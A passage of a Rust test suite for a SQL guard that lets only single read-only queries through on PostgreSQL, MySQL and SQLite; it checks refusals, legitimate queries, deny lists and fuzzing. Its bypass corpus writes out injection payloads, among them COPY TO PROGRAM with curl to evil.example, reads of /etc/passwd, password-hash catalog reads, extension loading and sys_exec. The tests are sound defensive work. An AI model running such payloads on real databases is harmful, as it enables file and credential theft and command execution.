        (Pg, "TRUNCATE x", Refused("TRUNCATE")),
        (Pg, "GRANT ALL ON x TO public", Refused("GRANT")),
        (
            Pg,
            "CREATE OR REPLACE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
            Refused("CREATE FUNCTION"),
        ),
        (My, "RENAME TABLE a TO b", Refused("RENAME")),
        (Pg, "COMMENT ON TABLE x IS 'y'", Refused("COMMENT")),
        (Pg, "CREATE INDEX i ON t (a)", Refused("CREATE INDEX")),
        (Pg, "DROP VIEW v", Refused("DROP VIEW")),
        (
            Lite,
            "CREATE VIRTUAL TABLE v USING fts5(a)",
            Refused("CREATE VIRTUAL"),
        ),
        // Transaction control.
        (Pg, "BEGIN", Refused("BEGIN")),
        (Pg, "COMMIT", Refused("COMMIT")),
        (Pg, "ROLLBACK", Refused("ROLLBACK")),
        (Pg, "SAVEPOINT a", Refused("SAVEPOINT")),
        (Pg, "SET TRANSACTION READ WRITE", Refused("SET TRANSACTION")),
        (Pg, "START TRANSACTION", Refused("START TRANSACTION")),
        (Lite, "BEGIN IMMEDIATE", Refused("BEGIN")),
        // Session state.
        (Pg, "SET statement_timeout = 0", Refused("SET")),
        (Pg, "SET ROLE postgres", Refused("SET ROLE")),
        (Pg, "RESET ALL", Refused("RESET")),
        (My, "SET @a = 1", Refused("SET")),
        (Pg, "SHOW search_path", Refused("SHOW")),
        (My, "SHOW PROCESSLIST", Refused("SHOW")),
        (My, "USE mysql", Refused("USE")),
        (Pg, "DISCARD ALL", Refused("DISCARD")),
        // Files and programs.
        (Pg, "COPY t TO PROGRAM 'curl evil.example'", Refused("COPY")),
        (Pg, "COPY (SELECT 1) TO '/tmp/x'", Refused("COPY")),
        (Pg, "COPY t FROM '/etc/passwd'", Refused("COPY")),
        (My, "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", Parse),
        (My, "SELECT * FROM t INTO OUTFILE '/tmp/x'", Parse),
        (My, "SELECT 1 INTO DUMPFILE '/tmp/x'", Parse),
        (My, "SELECT a INTO @v FROM t", Refused("INTO")),
        (Pg, "SELECT * INTO newtable FROM t", Refused("INTO")),
        (Pg, "SELECT * INTO TEMP t2 FROM t", Refused("INTO")),
        (
            Pg,
            "SELECT * FROM (SELECT * INTO t3 FROM t) s",
            Refused("INTO"),
        ),
        // Procedures, prepared statements, code blocks, cursors.
        (Pg, "CALL p()", Refused("CALL")),
        (My, "CALL p()", Refused("CALL")),
        (Pg, "PREPARE p AS DELETE FROM t", Refused("PREPARE")),
        (Pg, "EXECUTE p", Refused("EXECUTE")),
        (Pg, "DEALLOCATE p", Refused("DEALLOCATE")),
        (Pg, "DO $$ BEGIN DELETE FROM t; END $$", Parse),
        (My, "PREPARE s FROM 'DROP TABLE x'", Parse),
        (Pg, "DECLARE c CURSOR FOR SELECT 1", Refused("DECLARE")),
        // Locks, notifications, maintenance, extensions.
        (Pg, "LOCK TABLE t", Refused("LOCK")),
        (My, "LOCK TABLES t WRITE", Refused("LOCK")),
        (Pg, "LISTEN ch", Refused("LISTEN")),
        (Pg, "NOTIFY ch, 'x'", Refused("NOTIFY")),
        (Pg, "VACUUM", Refused("VACUUM")),
        (Pg, "ANALYZE t", Refused("ANALYZE")),
        (My, "KILL 1", Refused("KILL")),
        (Lite, "PRAGMA writable_schema = 1", Refused("PRAGMA")),
        (
            Lite,
            "ATTACH DATABASE '/tmp/evil.db' AS evil",
            Refused("ATTACH"),
        ),
        (Lite, "DETACH DATABASE evil", Parse),
        (Lite, "VACUUM INTO '/tmp/copy.db'", Parse),
        (Lite, "REPLACE INTO t VALUES (1)", Refused("INSERT")),
        (Pg, "LOAD 'plpgsql'", Refused("LOAD")),
        // Data changes while read-only, including hidden ones.
        (Pg, "DELETE FROM t", Refused("DELETE")),
        (Pg, "UPDATE t SET a = 1", Refused("UPDATE")),
        (Pg, "INSERT INTO t VALUES (1)", Refused("INSERT")),
        (My, "REPLACE INTO t VALUES (1)", Refused("REPLACE")),
        (
            Lite,
            "INSERT OR REPLACE INTO t VALUES (1)",
            Refused("INSERT"),
        ),
        (
            Pg,
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
            Refused("MERGE"),
        ),
        (
            Pg,
            "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x",
            Refused("DELETE inside a query"),
        ),
        (
            Pg,
            "WITH x AS (INSERT INTO t VALUES (1) RETURNING id) SELECT * FROM x",
            Refused("INSERT inside a query"),
        ),
        (
            Pg,
            "WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT 1",
            Refused("UPDATE inside a query"),
        ),
        (
            Pg,
            "SELECT * FROM (WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x) s",
            Refused("DELETE inside a query"),
        ),
        (
            Pg,
            "EXPLAIN ANALYZE DELETE FROM t",
            Refused("EXPLAIN of DELETE"),
        ),
        (
            Pg,
            "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1",
            Refused("EXPLAIN of UPDATE"),
        ),
        (
            Pg,
            "EXPLAIN ANALYZE SELECT pg_sleep(10)",
            Refused("pg_sleep"),
        ),
        (Pg, "EXPLAIN SELECT * FROM pg_authid", Refused("pg_authid")),
        // Locking reads.
        (Pg, "SELECT * FROM t FOR UPDATE", Refused("locking")),
        (
            Pg,
            "SELECT * FROM t FOR SHARE SKIP LOCKED",
            Refused("locking"),
        ),
        (My, "SELECT * FROM t FOR UPDATE", Refused("locking")),
        (My, "SELECT * FROM t LOCK IN SHARE MODE", Parse),
        (Pg, "SELECT * FROM t FOR KEY SHARE", Parse),
        (
            Pg,
            "SELECT * FROM (SELECT * FROM t FOR UPDATE) s",
            Refused("locking"),
        ),
        // Side-effect functions, in every position.
        (
            Pg,
            "SELECT pg_read_file('/etc/passwd')",
            Refused("pg_read_file"),
        ),
        (
            Pg,
            "SELECT pg_catalog.pg_read_file('/etc/passwd')",
            Refused("pg_read_file"),
        ),
        (
            Pg,
            "SELECT * FROM pg_read_file('/etc/passwd')",
            Refused("table function"),
        ),
        (
            Pg,
            "SELECT * FROM pg_catalog.pg_ls_dir('.') AS f(x)",
            Refused("pg_ls_dir"),
        ),
        (
            Pg,
            "SELECT * FROM PG_CATALOG.\"pg_read_file\"('x')",
            Refused("pg_read_file"),
        ),
        (
            Pg,
            "SELECT CASE WHEN true THEN pg_read_binary_file('x') END",
            Refused("pg_read_binary"),
        ),
        (
            Pg,
            "SELECT COALESCE(NULL, lo_import('/etc/passwd'))",
            Refused("lo_import"),
        ),
        (
            Pg,
            "SELECT (SELECT lo_export(1, '/tmp/x'))",
            Refused("lo_export"),
        ),
        (
            Pg,
            "SELECT * FROM t WHERE a IN (SELECT dblink_exec('host=evil', 'x'))",
            Refused("dblink_exec"),
        ),
        (
            Pg,
            "SELECT * FROM t WHERE EXISTS (SELECT set_config('role', 'x', false))",
            Refused("set_config"),
        ),
        (
            Pg,
            "SELECT row_number() OVER (ORDER BY pg_sleep(1)) FROM t",
            Refused("pg_sleep"),
        ),
        (
            Pg,
            "SELECT sum(a) OVER (PARTITION BY nextval('s')) FROM t",
            Refused("nextval"),
        ),
        (
            Pg,
            "SELECT a FROM t ORDER BY pg_terminate_backend(1)",
            Refused("pg_terminate"),
        ),
        (
            Pg,
            "SELECT a FROM t GROUP BY pg_cancel_backend(1)",
            Refused("pg_cancel"),
        ),
        (
            Pg,
            "SELECT a FROM t LIMIT (SELECT pg_sleep(5)::int)",
            Refused("pg_sleep"),
        ),
        (
            Pg,
            "SELECT a FROM t OFFSET pg_reload_conf()::int",
            Refused("pg_reload_conf"),
        ),
        (
            Pg,
            "VALUES (pg_rotate_logfile())",
            Refused("pg_rotate_logfile"),
        ),
        (
            Pg,
            "SELECT * FROM t JOIN u ON pg_advisory_lock(1) IS NOT NULL",
            Refused("pg_advisory_lock"),
        ),
        (
            Pg,
            "SELECT a FROM t GROUP BY a HAVING count(*) > txid_current()",
            Refused("txid"),
        ),
        (
            Pg,
            "SELECT query_to_xml('select * from secrets', true, true, '')",
            Refused("query_to"),
        ),
        (
            Pg,
            "SELECT table_to_xml('secrets', true, true, '')",
            Refused("table_to_xml"),
        ),
        (
            Pg,
            "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
            Refused("dblink"),
        ),
        (Pg, "SELECT setval('s', 1)", Refused("setval")),
        (
            Pg,
            "SELECT pg_create_logical_replication_slot('s', 'p')",
            Refused("pg_create"),
        ),
        (
            Pg,
            "SELECT pg_logical_emit_message(true, 'x', 'y')",
            Refused("pg_logical"),
        ),
        (
            Pg,
            "SELECT pg_current_xact_id()",
            Refused("pg_current_xact_id"),
        ),
        (
            Pg,
            "SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM t",
            Refused("pg_sleep"),
        ),
        (
            Pg,
            "SELECT ARRAY(SELECT pg_ls_dir('/'))",
            Refused("pg_ls_dir"),
        ),
        (
            Pg,
            "SELECT * FROM t, LATERAL (SELECT pg_stat_file('/etc/passwd')) s",
            Refused("pg_stat_file"),
        ),
        (
            Pg,
            "SELECT * FROM t WHERE a = ANY(SELECT lo_from_bytea(0, 'x'))",
            Refused("lo_from"),
        ),
        (
            Pg,
            "SELECT CAST(pg_promote() AS text)",
            Refused("pg_promote"),
        ),
        (
            Pg,
            "SELECT * FROM t WHERE x = (SELECT max(y) FROM u WHERE z = pg_sleep_for('1 s'))",
            Refused("pg_sleep_for"),
        ),
        (
            Pg,
            "SELECT ts_stat('select * from secrets')",
            Refused("ts_stat"),
        ),
        (
            Pg,
            "SELECT 1 UNION SELECT length(pg_read_file('x'))",
            Refused("pg_read_file"),
        ),
        (
            Pg,
            "SELECT cron.schedule('* * * * *', 'DROP TABLE t')",
            Refused("cron.schedule"),
        ),
        (
            Pg,
            "SELECT * FROM t WHERE a = 1 AND (b IN (VALUES (lo_put(1, 0, 'x'))))",
            Refused("lo_put"),
        ),
        // MySQL functions and catalogs.
        (My, "SELECT LOAD_FILE('/etc/passwd')", Refused("load_file")),
        (
            My,
            "SELECT load_file(0x2f6574632f706173737764)",
            Refused("load_file"),
        ),
        (My, "SELECT SLEEP(10)", Refused("sleep")),
        (
            My,
            "SELECT BENCHMARK(1000000, MD5('x'))",
            Refused("benchmark"),
        ),
        (My, "SELECT GET_LOCK('x', 10)", Refused("get_lock")),
        (
            My,
            "SELECT RELEASE_ALL_LOCKS()",
            Refused("release_all_locks"),
        ),
        (My, "SELECT sys_exec('id')", Refused("sys_exec")),
        (My, "SELECT `sleep`(1)", Refused("sleep")),
        (My, "SELECT * FROM `mysql`.`user`", Refused("mysql")),
        (
            My,
            "SELECT authentication_string FROM mysql.user",
            Refused("mysql.user"),
        ),
        (
            My,
            "SELECT * FROM performance_schema.events_statements_history",
            Refused("performance_schema"),
        ),
        (
            My,
            "SELECT info FROM information_schema.PROCESSLIST",
            Refused("processlist"),
        ),
        (My, "SELECT @a := 1", Refused("assignment")),
        (
            My,
            "SELECT * FROM t WHERE a = (SELECT MASTER_POS_WAIT('x', 1))",
            Refused("master_pos_wait"),
        ),
        (
            My,
            "SELECT /*+ MAX_EXECUTION_TIME(0) */ * FROM t",
            Refused("hint"),
        ),
        (My, "SELECT /*+ SET_VAR(sql_mode='') */ 1", Refused("hint")),
        // SQLite functions and virtual tables.
        (
            Lite,
            "SELECT load_extension('/tmp/evil.so')",
            Refused("load_extension"),
        ),
        (
            Lite,
            "SELECT writefile('/tmp/x', 'y')",
            Refused("writefile"),
        ),
        (Lite, "SELECT readfile('/etc/passwd')", Refused("readfile")),
        (Lite, "SELECT * FROM fsdir('/')", Refused("fsdir")),
        (Lite, "SELECT edit('x', 'vi')", Refused("edit")),
        (
            Lite,
            "SELECT fts3_tokenizer('simple')",
            Refused("fts3_tokenizer"),
        ),
        (
            Lite,
            "SELECT * FROM zipfile('/tmp/x.zip')",
            Refused("zipfile"),
        ),
        (
            Lite,
            "SELECT sqlar_uncompress(data, sz) FROM t",
            Refused("sqlar_uncompress"),
        ),
        (
            Lite,
            "SELECT * FROM pragma_database_list",
            Refused("pragma_database_list"),
        ),
        (
            Lite,
            "SELECT * FROM pragma_table_info('t')",
            Refused("pragma_table_info"),
        ),
        (
            Lite,
            "SELECT * FROM sqlite_dbpage",
            Refused("sqlite_dbpage"),
        ),
        (Lite, "SELECT eval('DELETE FROM t')", Refused("eval")),
        // PostgreSQL catalogs with secrets or sampled data.
        (Pg, "SELECT * FROM pg_authid", Refused("pg_authid")),
        (
            Pg,
            "SELECT passwd FROM pg_catalog.pg_shadow",
            Refused("pg_shadow"),
        ),
        (Pg, "SELECT * FROM \"pg_authid\"", Refused("pg_authid")),
        (
            Pg,
            "SELECT * FROM t WHERE a IN (SELECT rolname FROM pg_authid)",
            Refused("pg_authid"),
        ),
        (
            Pg,
            "SELECT most_common_vals FROM pg_stats",
            Refused("pg_stats"),
        ),
        (
            Pg,
            "SELECT query FROM pg_stat_activity",
            Refused("pg_stat_activity"),
        ),
        (
            Pg,
            "WITH a AS (SELECT * FROM pg_authid) SELECT * FROM a",
            Refused("pg_authid"),
        ),
        // Grammar disagreements between sqlparser and the database.
        (Pg, "SELECT * FROM ONLY orders", Refused("ONLY")),
        (Pg, "SELECT * FROM ONLY (orders)", Refused("ONLY")),
        (Pg, "TABLE pg_authid", Refused("pg_authid")),
        (Pg, "SELECT 1 UNION TABLE pg_authid", Refused("pg_authid")),
        (
            Pg,
            "SELECT * FROM (TABLE pg_catalog.pg_authid) AS a",
            Refused("pg_authid"),
        ),
        (
            Pg,
            "WITH a AS (SELECT 1) TABLE pg_authid",
            Refused("TABLE command"),
        ),
        (
            Lite,
            "SELECT 1 UNION TABLE sqlite_master",
            Refused("TABLE command"),
        ),
        (Pg, "SELECT TOP 10 * FROM t", Refused("TOP")),
        (Pg, "SELECT 1\0", Refused("NUL")),
    ];

    /// Legitimate analytics queries that must pass in read-only mode.
    const LEGIT: &[(Dialect, &str)] = &[
        (Pg, "SELECT 1"),
        (Pg, "SELECT 1;"),
        (
            Pg,
            "SELECT a, b FROM t WHERE c = 'DROP TABLE x; --' ORDER BY a DESC LIMIT 10",
        ),
        (
            Pg,
            "SELECT c.name, sum(o.total) AS revenue FROM customers c JOIN orders o ON \
             o.customer_id = c.id LEFT JOIN regions r ON r.id = c.region_id WHERE o.created_at \
             >= DATE '2024-01-01' GROUP BY c.name HAVING sum(o.total) > 100 ORDER BY revenue DESC",
        ),
        (
            Pg,
            "WITH monthly AS (SELECT date_trunc('month', created_at) AS m, sum(total) AS t FROM \
             orders GROUP BY 1) SELECT m, t, lag(t) OVER (ORDER BY m) AS prev FROM monthly",
        ),
        (
            Pg,
            "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) \
             SELECT n FROM r",
        ),
        (
            Pg,
            "SELECT region, product, sum(amount) FROM sales GROUP BY ROLLUP (region, product)",
        ),
        (
            Pg,
            "SELECT region, count(*) FILTER (WHERE status = 'paid') AS paid FROM orders GROUP BY \
             region",
        ),
        (
            Pg,
            "SELECT CASE WHEN a > 10 THEN 'big' WHEN a > 5 THEN 'mid' ELSE 'small' END FROM t",
        ),
        (Pg, "SELECT * FROM generate_series(1, 10) AS g(n)"),
        (
            Pg,
            "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY amount) FROM orders",
        ),
        (
            Pg,
            "SELECT a FROM t UNION SELECT b FROM u INTERSECT SELECT c FROM v EXCEPT SELECT d \
             FROM w",
        ),
        (Pg, "VALUES (1, 'a'), (2, 'b')"),
        (Pg, "EXPLAIN SELECT * FROM orders WHERE id = 1"),
        (Pg, "EXPLAIN ANALYZE SELECT count(*) FROM orders"),
        (Pg, "SELECT $$it's; DROP TABLE x; --$$ AS s"),
        (Pg, "SELECT $tag$ ; DELETE FROM t; $tag$"),
        (Pg, "SELECT 'a;b' || 'c' AS semis, E'\\n' AS nl"),
        (
            Pg,
            "SELECT * FROM t WHERE name LIKE '%DELETE%' AND note = 'UPDATE t SET a = 1'",
        ),
        (Pg, "SELECT x::numeric(10,2), CAST(y AS text) FROM t"),
        (
            Pg,
            "SELECT * FROM orders o WHERE EXISTS (SELECT 1 FROM items i WHERE i.order_id = o.id)",
        ),
        (
            Pg,
            "SELECT * FROM t, LATERAL (SELECT * FROM u WHERE u.t_id = t.id LIMIT 1) AS l",
        ),
        (Pg, "SELECT json_agg(t) FROM t"),
        (
            Pg,
            "SELECT a FROM t ORDER BY a NULLS LAST OFFSET 5 ROWS FETCH FIRST 10 ROWS ONLY",
        ),
        (Pg, "SELECT \"Order Id\" FROM \"Sales\".\"Orders\""),
        (Pg, "select /* a comment */ a -- trailing\nfrom t"),
        (
            Pg,
            "SELECT count(DISTINCT customer_id) FROM orders WHERE created_at BETWEEN now() - \
             INTERVAL '30 days' AND now()",
        ),
        (
            Pg,
            "SELECT rank() OVER w FROM t WINDOW w AS (PARTITION BY a ORDER BY b)",
        ),
        (
            Pg,
            "SELECT * FROM unnest(ARRAY[1, 2, 3]) WITH ORDINALITY AS u(v, i)",
        ),
        (
            Pg,
            "SELECT coalesce(a, b, 0), nullif(a, 0), greatest(a, b) FROM t",
        ),
        (Pg, "SELECT tablename FROM pg_catalog.pg_tables"),
        (Pg, "SELECT table_name FROM information_schema.tables"),
        (Pg, "SELECT current_setting('TimeZone')"),
        (
            Pg,
            "SELECT 'ÄÖÜ ✓ 日本語' AS unicode, \"naïve\" FROM \"tablé\"",
        ),
        (
            Pg,
            "SELECT a FROM t WHERE b = ANY(ARRAY['x', 'y']) AND c IS DISTINCT FROM d",
        ),
        (
            My,
            "SELECT `order id`, COUNT(*) FROM `orders` GROUP BY `order id`",
        ),
        (My, "SELECT * FROM t LIMIT 5, 10"),
        (My, "SELECT 'a\\'; DROP TABLE x; -- ' AS s"),
        (
            My,
            "SELECT DATE_FORMAT(created_at, '%Y-%m') AS m, SUM(total) FROM orders GROUP BY m",
        ),
        (My, "SELECT * FROM t WHERE a = 1 # trailing comment"),
        (My, "SELECT IF(a > 1, 'x', 'y'), IFNULL(b, 0) FROM t"),
        (My, "SELECT * FROM user"),
        (
            My,
            "SELECT * FROM app.users u JOIN app.orders o ON o.user_id = u.id",
        ),
        (My, "SELECT SQL_NO_CACHE a FROM t"),
        (My, "SELECT a, count(*) FROM t GROUP BY a WITH ROLLUP"),
        (
            My,
            "SELECT * FROM t WHERE MATCH (a) AGAINST ('x') AND b = 'y' COLLATE utf8mb4_bin",
        ),
        (
            Pg,
            "SELECT DISTINCT ON (a) a, b FROM t NATURAL JOIN u ORDER BY a, b",
        ),
        (
            Pg,
            "SELECT a ->> 'b', count(*) FROM t GROUP BY GROUPING SETS ((a ->> 'b'), ())",
        ),
        (
            Lite,
            "SELECT strftime('%Y', created_at) AS y, count(*) FROM orders GROUP BY y",
        ),
        (
            Lite,
            "SELECT * FROM t WHERE a IN (1, 2, 3) ORDER BY a LIMIT 10 OFFSET 5",
        ),
        (Lite, "WITH x AS (SELECT 1 AS a) SELECT a FROM x"),
        (Lite, "SELECT group_concat(name, ';') FROM t"),
        (Lite, "SELECT name FROM sqlite_master WHERE type = 'table'"),
        (Lite, "SELECT * FROM [my table]"),
        (Lite, "EXPLAIN QUERY PLAN SELECT * FROM t"),
    ];

    /// Statements allowed only with `allow_dml`.
    const DML_ONLY: &[(Dialect, &str)] = &[
        (Pg, "INSERT INTO t (a) VALUES (1) RETURNING id"),
        (Pg, "UPDATE t SET a = 1 WHERE id = 2"),
        (Pg, "DELETE FROM t WHERE id = 1"),
        (
            Pg,
            "WITH x AS (DELETE FROM t WHERE a < 0 RETURNING *) SELECT count(*) FROM x",
        ),
        (Pg, "SELECT * FROM t WHERE id = 1 FOR UPDATE"),
        (
            Pg,
            "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = excluded.a",
        ),
        (Pg, "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1"),
        (
            Pg,
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a",
        ),
        (My, "REPLACE INTO t VALUES (1)"),
        (My, "UPDATE t SET a = 1 WHERE id = 2 LIMIT 1"),
        (Lite, "INSERT OR REPLACE INTO t VALUES (1)"),
    ];

    /// Refused even with `allow_dml`.
    const NEVER: &[(Dialect, &str, Want)] = &[
        (Pg, "DROP TABLE t", Refused("DROP TABLE")),
        (Pg, "SELECT * INTO t2 FROM t", Refused("INTO")),
        (Pg, "BEGIN", Refused("BEGIN")),
        (
            My,
            "INSERT INTO mysql.user (user) VALUES ('x')",
            Refused("mysql.user"),
        ),
        (My, "DELETE FROM mysql.user", Refused("mysql.user")),
        (
            Pg,
            "UPDATE pg_authid SET rolsuper = true",
            Refused("pg_authid"),
        ),
        (
            Pg,
            "INSERT INTO t SELECT pg_read_file('x')",
            Refused("pg_read_file"),
        ),
        (
            My,
            "INSERT /*+ SET_VAR(sql_mode='') */ INTO t VALUES (1)",
            Refused("hint"),
        ),
        (Pg, "TRUNCATE t", Refused("TRUNCATE")),
        (Pg, "COPY t FROM STDIN", Refused("COPY")),
    ];

    fn refusal_mismatch(
        dialect: Dialect,
        sql: &str,
        policy: &GuardPolicy,
        want: Want,
    ) -> Option<String> {
        let result = check(dialect, sql, policy);
        let ok = match (&result, want) {
            (Err(SqlError::Parse(_)), Parse) => true,
            (Err(SqlError::NotSingleStatement(n)), Stacked) => *n != 1,
            (Err(SqlError::Forbidden { what, .. }), Refused(part)) => {
                what.to_lowercase().contains(&part.to_lowercase())
            }
            _ => false,
        };
        (!ok).then(|| format!("{dialect:?} {sql:?}: wanted {want:?}, got {result:?}"))
    }

    fn assert_all_refused(corpus: &[(Dialect, &str, Want)], policy: &GuardPolicy) {
        let failures: Vec<String> = corpus
            .iter()
            .filter_map(|&(dialect, sql, want)| refusal_mismatch(dialect, sql, policy, want))
            .collect();
        assert!(failures.is_empty(), "{}", failures.join("\n"));
    }

    #[test]
    fn bypass_corpus_is_refused_for_the_right_reason() {
        assert!(BYPASS.len() >= 80, "only {} bypass attempts", BYPASS.len());
        assert_all_refused(BYPASS, &READ_ONLY);
    }

    #[test]
    fn never_allowed_even_with_dml() {
        assert_all_refused(NEVER, &DML);
    }

    #[test]
    fn legitimate_queries_are_accepted() {
        for &(dialect, sql) in LEGIT {
            let checked = check(dialect, sql, &READ_ONLY)
                .unwrap_or_else(|e| panic!("{dialect:?} {sql:?} refused: {e}"));
            let want = if sql.to_uppercase().starts_with("EXPLAIN") {
                StatementKind::Explain
            } else {
                StatementKind::Query
            };
            assert_eq!(checked.kind, want, "{sql}");
        }
    }

    #[test]
    fn dml_needs_the_policy() {
        for &(dialect, sql) in DML_ONLY {
            let err = check(dialect, sql, &READ_ONLY).expect_err(sql);
            assert!(matches!(err, SqlError::Forbidden { .. }), "{sql}: {err}");
            let checked = check(dialect, sql, &DML)
                .unwrap_or_else(|e| panic!("{dialect:?} {sql:?} refused with DML: {e}"));
            assert!(
                matches!(checked.kind, StatementKind::Dml | StatementKind::Explain)
                    || sql.contains("FOR UPDATE")
                    || sql.starts_with("WITH"),
                "{sql}: {:?}",
                checked.kind
            );
        }
    }

    #[test]
    fn refusals_explain_themselves() {
        let err = check(Pg, "SELECT pg_sleep(5)", &READ_ONLY).expect_err("sleep");
        let text = err.to_string();
        assert!(text.starts_with("refused the function pg_sleep"), "{text}");
        assert!(text.contains("timing"), "{text}");
        let text = check(Pg, "DROP TABLE t", &READ_ONLY)
            .expect_err("ddl")
            .to_string();
        assert!(
            text.contains("DROP TABLE") && text.contains("DDL"),
            "{text}"
        );
        let text = check(Pg, "DELETE FROM t", &READ_ONLY)
            .expect_err("dml")
            .to_string();
        assert!(text.contains("read-only"), "{text}");
        let text = check(Pg, "SELECT 1; SELECT 2", &READ_ONLY)
            .expect_err("2")
            .to_string();
        assert!(text.contains("2 were found"), "{text}");
    }

    /// Property: whatever is accepted prints to SQL that parses back to the same statement
    /// and is accepted again.
    #[test]
    fn accepted_sql_round_trips() {
        let all = LEGIT
            .iter()
            .map(|&(d, s)| (d, s, READ_ONLY))
            .chain(DML_ONLY.iter().map(|&(d, s)| (d, s, DML)));
        for (dialect, sql, policy) in all {
            let checked = check(dialect, sql, &policy).expect(sql);
            let printed = to_sql(&checked.statement);
            let again = check(dialect, &printed, &policy)
                .unwrap_or_else(|e| panic!("{sql:?} printed as {printed:?}, refused: {e}"));
            assert_eq!(again.statement, checked.statement, "{printed}");
            assert_eq!(to_sql(&again.statement), printed);
        }
    }

    #[test]
    fn the_table_command_is_read_as_select_star() {
        let cases = [
            (Pg, "TABLE sales", "SELECT * FROM sales"),
            (Pg, "  table public.sales;", "SELECT * FROM public.sales"),
            (
                Pg,
                "TABLE \"Sales\" ORDER BY 1 LIMIT 3",
                "SELECT * FROM \"Sales\" ORDER BY 1 LIMIT 3",
            ),
            (
                Pg,
                "SELECT * FROM a UNION ALL TABLE b",
                "SELECT * FROM a UNION ALL SELECT * FROM b",
            ),
            (
                Pg,
                "SELECT * FROM (TABLE b) AS x",
                "SELECT * FROM (SELECT * FROM b) AS x",
            ),
            (My, "TABLE sales", "SELECT * FROM sales"),
        ];
        for (dialect, sql, want) in cases {
            let checked =
                check(dialect, sql, &READ_ONLY).unwrap_or_else(|e| panic!("{sql:?} refused: {e}"));
            assert_eq!(to_sql(&checked.statement), want);
        }
        // A quoted "table" is a name, not the command.
        let checked = check(Pg, "SELECT \"table\" FROM t", &READ_ONLY).expect("quoted");
        assert_eq!(to_sql(&checked.statement), "SELECT \"table\" FROM t");
        assert!(matches!(
            check(Pg, "TABLE a; TABLE b", &READ_ONLY),
            Err(SqlError::NotSingleStatement(2))
        ));
    }

    #[test]
    fn denylist_patterns() {
        let name = |s: &str| -> ObjectName {
            ObjectName(
                s.split('.')
                    .map(|p| ObjectNamePart::Identifier(Ident::new(p)))
                    .collect(),
            )
        };
        assert!(denied_function(&name("pg_read_file")).is_some());
        assert!(denied_function(&name("PG_CATALOG.PG_LS_LOGDIR")).is_some());
        assert!(denied_function(&name("cron.schedule")).is_some());
        assert!(denied_function(&name("schedule")).is_none());
        assert!(denied_function(&name("generate_series")).is_none());
        assert!(denied_function(&name("count")).is_none());
        assert!(denied_catalog(&name("mysql.user")).is_some());
        assert!(denied_catalog(&name("user")).is_none());
        assert!(denied_catalog(&name("app.pg_stats")).is_some());
        assert!(denied_catalog(&name("information_schema.tables")).is_none());
        for list in FUNCTION_LISTS.iter().chain(CATALOG_LISTS) {
            for entry in *list {
                assert_eq!(
                    entry.pattern,
                    entry.pattern.to_lowercase(),
                    "patterns are lower case"
                );
                assert!(!entry.why.is_empty());
            }
        }
    }

    #[test]
    fn deep_trees_fit_a_small_stack() {
        // The deepest trees the token limit allows must go through the whole pipeline on a
        // 2 MiB stack (the size of tokio's worker threads), in debug builds too.
        let budget = MAX_SQL_TOKENS - 20;
        // The two deepest shapes per token: an expression chain and a set-operation chain
        // (the latter also makes RLS rewrite thousands of references). Other chains (AND,
        // casts, IS NULL, joins) were measured to need less stack; they are slow in debug
        // builds, so they are not repeated here.
        let shapes = [
            format!("SELECT {}1 FROM orders", "1+".repeat(budget / 2)),
            format!(
                "SELECT 1 FROM orders{}",
                " UNION SELECT 1 FROM orders".repeat(budget / 5)
            ),
        ];
        let handle = std::thread::Builder::new()
            .stack_size(2 * 1024 * 1024)
            .spawn(move || {
                let rules = [crate::sql::RlsRule {
                    table: crate::sql::TableName::new(None, "orders"),
                    clause: "tenant = 1".to_string(),
                }];
                shapes
                    .iter()
                    .map(|sql| {
                        let mut checked = check(Pg, sql, &READ_ONLY).expect("deep tree");
                        apply_rls(&mut checked.statement, Pg, &rules, None).expect("rls");
                        cap_limit(&mut checked.statement, Pg, 10);
                        to_sql(&checked.statement).len()
                    })
                    .sum::<usize>()
            })
            .expect("spawn");
        assert!(handle.join().expect("no stack overflow") > 0);
    }

    const FRAGMENTS: &[&str] = &[
        ";",
        "--",
        "/*",
        "*/",
        "'",
        "\"",
        "`",
        "$$",
        "$a$",
        "(",
        ")",
        "#",
        "\n",
        "\\",
        " ",
        "/*!",
        " DROP TABLE x",
        " pg_read_file('x')",
        "SELECT",
        " UNION ",
        " FROM ",
        "WITH x AS ",
        " INTO ",
        " FOR UPDATE",
        "é",
        "\u{200B}",
        "\u{FF1B}",
        "::",
        "[",
        "]",
        "@",
        ":=",
        "?",
        "$1",
        "E'",
        "U&'",
        "N'",
        " LIMIT ",
        " OFFSET ",
        ",",
        "*",
        "0x",
        "1e309",
        "ONLY ",
    ];

    fn mutate(rng: &mut Rng, input: &str) -> String {
        let mut chars: Vec<char> = input.chars().collect();
        for _ in 0..=rng.below(3) {
            let at = rng.below(chars.len() + 1);
            match rng.below(5) {
                0 if !chars.is_empty() => {
                    let end = (at + rng.below(6)).min(chars.len());
                    chars.drain(at.min(end)..end);
                }
                1 => {
                    let fragment = FRAGMENTS[rng.below(FRAGMENTS.len())];
                    chars.splice(at..at, fragment.chars());
                }
                2 if !chars.is_empty() => {
                    let from = rng.below(chars.len());
                    let end = (from + rng.below(12)).min(chars.len());
                    let copy: Vec<char> = chars[from..end].to_vec();
                    chars.splice(at..at, copy);
                }
                3 => {
                    let c = char::from_u32(rng.below(0x250) as u32).unwrap_or('x');
                    chars.insert(at, c);
                }
                _ if !chars.is_empty() => {
                    let a = rng.below(chars.len());
                    let b = rng.below(chars.len());
                    chars.swap(a, b);
                }
                _ => {}
            }
        }
        chars.into_iter().collect()
    }

    /// Fuzz-ish: mutated corpus entries never panic anywhere in the pipeline, and whatever is
    /// accepted still round-trips.
    #[test]
    fn mutations_never_panic() {
        let seeds: Vec<(Dialect, &str)> = BYPASS
            .iter()
            .map(|&(d, s, _)| (d, s))
            .chain(LEGIT.iter().copied())
